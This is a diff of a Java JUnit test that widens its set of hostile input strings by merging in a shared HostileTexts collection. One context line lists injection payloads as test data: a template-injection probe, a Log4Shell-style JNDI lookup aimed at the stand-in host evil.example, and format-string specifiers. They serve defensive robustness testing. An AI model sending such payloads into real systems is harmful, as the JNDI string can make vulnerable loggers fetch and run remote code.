@@ -3,10 +3,12 @@ package io.loadline.ci;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import io.loadline.document.ResultDocument;
+import io.loadline.hostile.HostileTexts;
 import io.loadline.json.Json;
 import io.loadline.json.JsonValue.JsonString;
 import java.util.List;
 import java.util.regex.Pattern;
+import java.util.stream.Stream;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.MethodSource;
 
@@ -49,8 +51,9 @@ class HostileTextTest {
           "😀".repeat(5_000),
           "{{7*7}} ${jndi:ldap://evil.example} %s %n {0}");
 
-  static List<String> hostile() {
-    return HOSTILE;
+  static Stream<String> hostile() {
+    return Stream.concat(HOSTILE.stream(), HostileTexts.all().stream())
+        .filter(each -> !each.isEmpty());
   }
 
   @ParameterizedTest
